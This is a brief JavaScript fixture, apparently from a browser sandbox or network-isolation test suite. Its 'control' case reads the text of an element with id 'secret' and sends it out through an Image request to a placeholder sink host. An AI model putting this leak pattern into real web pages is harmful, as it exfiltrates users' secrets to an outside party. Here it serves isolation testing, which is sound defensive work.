//! guest = "widget"
//! promise = "widget-network"
document.body.style.background = `url(${SINK}/x)`;
setTimeout(end, 250);
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
